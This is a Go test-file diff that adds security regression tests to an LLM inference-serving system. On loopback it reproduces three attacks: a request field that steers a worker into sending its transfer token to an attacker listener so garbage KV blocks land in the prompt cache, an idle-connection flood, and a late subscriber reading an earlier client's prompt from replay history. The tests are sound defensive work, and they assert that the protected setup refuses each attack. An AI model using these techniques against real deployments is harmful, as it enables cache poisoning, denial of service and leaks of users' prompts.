@@ -4,10 +4,15 @@ import (
 	"bytes"
 	"context"
 	"encoding/json"
+	"errors"
+	"fmt"
 	"io"
 	"net"
+	"net/http"
 	"os"
+	"os/exec"
 	"path/filepath"
+	"regexp"
 	"slices"
 	"strings"
 	"sync"
@@ -50,15 +55,21 @@ type attackNet struct {
 	victimHost   string
 	attackerHost string
 	start        func(t *testing.T, name, args string) *osProc
-	dial         func(ctx context.Context, network, addr string) (net.Conn, error)
-	listen       func(network, addr string) (net.Listener, error)
+	// startReady starts a process that reports ready with ready's match
+	// (a vLLM-compatible worker prints a URL, not a request plane).
+	startReady func(t *testing.T, name, args string, ready *regexp.Regexp) *osProc
+	dial       func(ctx context.Context, network, addr string) (net.Conn, error)
+	listen     func(network, addr string) (net.Listener, error)
 }
 
 // loopbackNet: workers on 127.0.0.2, the attacker on 127.0.0.3.
 func loopbackNet() attackNet {
 	return attackNet{
 		victimHost: victimHost, attackerHost: attackerHost,
-		start:  func(t *testing.T, name, args string) *osProc { return startProc(t, name, args, workerReady) },
+		start: func(t *testing.T, name, args string) *osProc { return startProc(t, name, args, workerReady) },
+		startReady: func(t *testing.T, name, args string, ready *regexp.Regexp) *osProc {
+			return startProc(t, name, args, ready)
+		},
 		dial:   attackerDialer().DialContext,
 		listen: net.Listen,
 	}
@@ -298,6 +309,10 @@ func runAttacks(t *testing.T, an attackNet) {
 					t.Fatalf("the open prefill worker sent %d bytes (err %v)", bytes, lerr)
 				}
 				t.Logf("open: the prefill worker sent %d bytes to an address of the caller's choosing", bytes)
+			})
+
+			t.Run("token theft through kv_transfer_params", func(t *testing.T) {
+				kvParamsTheft(t, an, tc.protected, mtlsFlags)
 			})
 		})
 	}
@@ -577,4 +592,294 @@ func containsIDs(b []byte, ids []engine.Token) bool {
 		want = append(want, byte(id), byte(id>>8), byte(id>>16), byte(id>>24))
 	}
 	return len(want) > 0 && bytes.Contains(b, want)
+}
+
+// kvParamsTheft is issue 33's first finding: a client's request to a
+// vLLM-compatible worker (--kv-transfer-params) names the attacker's own
+// listener as remote_host:remote_port. Open (--kv-transfer-peers any), the
+// worker POSTs /v1/kv/pull there carrying a transfer token for its own KV
+// node; the attacker pushes its blocks with it, and the next user's
+// identical prompt finds them cached. Protected (the peers list names
+// only the prefill servers' host), nothing reaches the attacker's
+// listener and nothing is cached.
+func kvParamsTheft(t *testing.T, an attackNet, protected bool, mtlsFlags string) {
+	const bpt = 1024
+	args := "worker --openai-addr " + an.victimHost + ":0 --kv-transfer-params --kv-transfer-listen-host " + an.victimHost +
+		" --speedup 100 --kv-bytes-per-token 1024 --kv-events off"
+	if protected {
+		args += " --kv-transfer-peers " + an.victimHost
+	} else {
+		args += " --kv-transfer-peers any"
+	}
+	url := an.startReady(t, "vllm-d", args, frontendReady).line
+	client := &http.Client{Timeout: 20 * time.Second, Transport: &http.Transport{DialContext: an.dial}}
+	prompt := make([]engine.Token, 33)
+	for i := range prompt {
+		prompt[i] = engine.Token(300 + i)
+	}
+	complete := func(params map[string]any) (status, cached int) {
+		body := map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 1}
+		if params != nil {
+			body["kv_transfer_params"] = params
+		}
+		b, _ := json.Marshal(body)
+		resp, err := client.Post(url+"/v1/completions", "application/json", bytes.NewReader(b))
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer resp.Body.Close()
+		var c struct {
+			Usage struct {
+				Details struct {
+					Cached int `json:"cached_tokens"`
+				} `json:"prompt_tokens_details"`
+			} `json:"usage"`
+		}
+		_ = json.NewDecoder(resp.Body).Decode(&c)
+		return resp.StatusCode, c.Usage.Details.Cached
+	}
+
+	// The attacker's "side channel": it answers the pull by pushing its
+	// own (garbage) blocks with the token the worker sent it.
+	lis, err := an.listen("tcp", an.attackerHost+":0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	eng, err := mocker.New(mocker.Config{Instant: true, KVBytesPerToken: bpt, KVCapacityTokens: 4096})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer eng.Close()
+	drain(t, eng, prompt)
+	node, err := kvtransfer.NewNode(kvtransfer.Config{ID: "evil", Port: eng, Timeout: 5 * time.Second, Dial: an.dial})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer node.Close()
+	var mu sync.Mutex
+	var pulls, pushed int
+	srv := &http.Server{ReadHeaderTimeout: 5 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var pr struct {
+			From    int    `json:"from"`
+			DstID   string `json:"dst_id"`
+			DstAddr string `json:"dst_addr"`
+			Token   []byte `json:"token"`
+		}
+		_ = json.NewDecoder(io.LimitReader(r.Body, 64<<10)).Decode(&pr)
+		mu.Lock()
+		pulls++
+		mu.Unlock()
+		st, err := node.Send(r.Context(), kvtransfer.Peer{ID: pr.DstID, Addr: pr.DstAddr, Token: pr.Token}, prompt[:32], pr.From)
+		if err == nil {
+			mu.Lock()
+			pushed += st.Blocks
+			mu.Unlock()
+		}
+		_, _ = io.WriteString(w, `{"blocks":0,"wanted":0,"bytes":0}`)
+	})}
+	go func() { _ = srv.Serve(lis) }()
+	defer srv.Close()
+	_, port, _ := net.SplitHostPort(lis.Addr().String())
+	var portN int
+	_, _ = fmt.Sscan(port, &portN)
+	// The decode leg's cached tokens are what the pull brought: the
+	// attacker's blocks, which stay in the prefix cache for the next user
+	// of the same prompt.
+	status, cached := complete(map[string]any{"do_remote_prefill": true, "do_remote_decode": false, "remote_engine_id": "evil",
+		"remote_block_ids": []int{0, 1}, "remote_host": an.attackerHost, "remote_port": portN, "remote_request_id": "r1"})
+	if status != 200 {
+		t.Fatalf("the decode leg: status %d", status)
+	}
+	mu.Lock()
+	p, b := pulls, pushed
+	mu.Unlock()
+	if protected {
+		if p != 0 || b != 0 || cached != 0 {
+			t.Fatalf("the worker pulled from the client's address: %d pulls, %d blocks pushed, %d tokens cached", p, b, cached)
+		}
+		t.Logf("attack_kv_params_token_theft protected: refused (0 pulls reached the client's listener, 0 tokens cached)")
+		return
+	}
+	if p != 1 || b == 0 || cached != 32 {
+		t.Fatalf("the open worker: %d pulls, %d blocks pushed, %d tokens cached", p, b, cached)
+	}
+	t.Logf("attack_kv_params_token_theft open: works (the token reached the client's listener; %d blocks pushed; %d of the client's tokens cached under the prompt)", b, cached)
+}
+
+// TestIdleFlood is issue 33's second finding, bounded: a stranger opens
+// idle connections to every port of a decode worker whose descriptors are
+// few (prlimit --nofile=256), 120 per port for a few seconds. Throughout,
+// the frontend's address still reaches the request plane (routable), the
+// worker's discovery record keeps being refreshed (no lapse), and its
+// metrics answer; after the flood, no diagnostic stays raised. Without the
+// per-source caps (--conn-max-per-source 0) the flood takes the worker's
+// descriptors and the checks fail.
+func TestIdleFlood(t *testing.T) {
+	if testing.Short() || secure.on {
+		t.Skip("starts a process")
+	}
+	if _, err := exec.LookPath("prlimit"); err != nil {
+		t.Skipf("needs prlimit (util-linux): %v", err)
+	}
+	if l, err := net.Listen("tcp", attackerHost+":0"); err != nil {
+		t.Skipf("no second loopback address: %v", err)
+	} else {
+		l.Close()
+	}
+	dir := t.TempDir()
+	const ttl = 2 * time.Second
+	startProcWith(t, "d1", "worker --id d1 --role decode --discovery file --discovery-dir "+dir+" --lease-ttl 2s --deregister-delay 0s"+
+		" --rp-addr "+victimHost+":0 --kv-transfer-addr "+victimHost+":0 --metrics-addr "+victimHost+":0"+
+		" --conn-max 512 --conn-max-per-source 16 --conn-handshake-timeout 1s --speedup 100",
+		workerReady, []string{"prlimit", "--nofile=256", "--"})
+	rec := readRecord(t, dir, "d1")
+	ports := map[string]string{"request-plane": rec.RequestPlane, "kv-transfer": rec.KVTransfer.Addr, "metrics": rec.MetricsAddr}
+	var flood []net.Conn
+	defer func() {
+		for _, c := range flood {
+			c.Close()
+		}
+	}()
+	for _, addr := range ports {
+		for range 120 {
+			c, err := attackerDialer().Dial("tcp", addr)
+			if err != nil {
+				continue // the backlog is full: refused, as it should be
+			}
+			flood = append(flood, c)
+		}
+	}
+	hc := &http.Client{Timeout: 2 * time.Second}
+	check := func(during bool) {
+		t.Helper()
+		info, err := os.Stat(filepath.Join(dir, "d1.json"))
+		if err != nil || time.Since(info.ModTime()) >= ttl {
+			t.Fatalf("the discovery record lapsed (%v)", err)
+		}
+		resp, err := hc.Get("http://" + rec.MetricsAddr + "/metrics")
+		if err != nil {
+			t.Fatalf("metrics: %v", err)
+		}
+		m, _ := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if during && metricSum(string(m), "tandem_listener_refused_total") == 0 {
+			t.Fatalf("no refusal counted:\n%s", grepLines(string(m), "tandem_listener"))
+		}
+		c, err := requestplane.Dial(rec.RequestPlane)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer c.Close()
+		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+		defer cancel()
+		st, err := c.Generate(ctx, &engine.Request{ID: "legit", Prompt: []engine.Token{1, 2, 3}, MaxTokens: 2, IgnoreEOS: true})
+		n := 0
+		for err == nil {
+			var d engine.Delta
+			if d, err = st.Recv(); err == nil {
+				n += len(d.Tokens)
+			}
+		}
+		if n == 0 {
+			t.Fatalf("the frontend's request failed during the flood: %v", err)
+		}
+	}
+	for end := time.Now().Add(3 * time.Second); time.Now().Before(end); time.Sleep(300 * time.Millisecond) {
+		check(true)
+	}
+	kept := 0
+	for _, c := range flood {
+		_ = c.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
+		if _, err := c.Read(make([]byte, 1)); errors.Is(err, os.ErrDeadlineExceeded) {
+			kept++ // still open (timed out reading): only the per-source share
+		}
+		c.Close()
+	}
+	flood = nil
+	deadline := time.Now().Add(10 * time.Second)
+	for {
+		resp, err := hc.Get("http://" + rec.MetricsAddr + "/health")
+		if err == nil {
+			var h struct {
+				Status      string `json:"status"`
+				Diagnostics []any  `json:"diagnostics"`
+			}
+			_ = json.NewDecoder(resp.Body).Decode(&h)
+			resp.Body.Close()
+			if h.Status == "ok" && len(h.Diagnostics) == 0 {
+				break
+			}
+			if time.Now().After(deadline) {
+				t.Fatalf("diagnostics still raised after the flood: %+v", h)
+			}
+		} else if time.Now().After(deadline) {
+			t.Fatal(err)
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	check(false)
+	t.Logf("attack_idle_flood protected: 360 idle connections from one address; %d were still open at the end (per-source caps of 16 per port, handshake deadline 1 s); routable, record fresh, metrics answering throughout; no diagnostic after", kept)
+}
+
+// TestReplayHistoryLeak is issue 33's third finding: a local process that
+// joins a worker's KV event sockets after another client's request asks
+// the replay socket for the history and reads that prompt from the past
+// batches' token ids. Now the replay answers history only to a router
+// that presents the worker's replay token (published in discovery): the
+// stranger learns only what is published after it joined.
+func TestReplayHistoryLeak(t *testing.T) {
+	if testing.Short() || secure.on {
+		t.Skip("starts 2 processes")
+	}
+	model, err := tokenizer.Default()
+	if err != nil {
+		t.Fatal(err)
+	}
+	const secret = "the vault passphrase is marmalade-tangerine-47"
+	dir := t.TempDir()
+	disc := " --discovery file --discovery-dir " + dir + " --lease-ttl 2s"
+	url := startProc(t, "frontend", "frontend --http-addr 127.0.0.1:0 --router-mode kv"+disc, frontendReady).line
+	startProc(t, "w1", "worker --id w1 --speedup 100 --deregister-delay 0s --kv-events-endpoint tcp://"+victimHost+":0"+disc, workerReady)
+	rec := readRecord(t, dir, "w1")
+	if rec.KVEvents.ReplayEndpoint == "" || rec.KVEvents.ReplayToken == "" {
+		t.Fatalf("the worker publishes no replay socket or token: %+v", rec.KVEvents)
+	}
+	deadline := time.Now().Add(20 * time.Second)
+	for !slices.Equal(healthWorkers(t, url), []string{"w1"}) {
+		if time.Now().After(deadline) {
+			t.Fatal("the frontend never saw the worker")
+		}
+		time.Sleep(50 * time.Millisecond)
+	}
+	prompt := strings.Repeat("Some context before the secret. ", 8) + secret + strings.Repeat(" And some after it.", 8)
+	completion(t, url, map[string]any{"model": "tandem-mock", "prompt": prompt, "max_tokens": 2})
+
+	// The stranger joins afterwards, with replay, and without the token.
+	sink := &leakSink{}
+	sub, err := kvevents.NewSubscriber(kvevents.SubscriberConfig{Worker: "stranger", Endpoint: rec.KVEvents.Endpoint,
+		ReplayEndpoint: rec.KVEvents.ReplayEndpoint, Handler: sink})
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	defer cancel()
+	go sub.Run(ctx)
+	time.Sleep(300 * time.Millisecond)
+	other := strings.Repeat("An unrelated request that the stranger may see live. ", 4)
+	for i := 0; i < 20; i++ {
+		completion(t, url, map[string]any{"model": "tandem-mock", "prompt": other + fmt.Sprint(i), "max_tokens": 2})
+		if n, _ := sink.snapshot(); n > 0 {
+			break
+		}
+		time.Sleep(100 * time.Millisecond)
+	}
+	time.Sleep(500 * time.Millisecond) // a replay, if any, lands
+	stored, toks := sink.snapshot()
+	if stored == 0 {
+		t.Fatal("the stranger received nothing at all (not connected)")
+	}
+	if strings.Contains(model.Tokenizer.Decode(toks), "marmalade-tangerine") {
+		t.Fatalf("the stranger read an earlier client's prompt from the replayed history (%d token ids)", len(toks))
+	}
+	t.Logf("attack_replay_history protected: a late local subscriber got %d live BlockStored events and none of the earlier prompt", stored)
 }
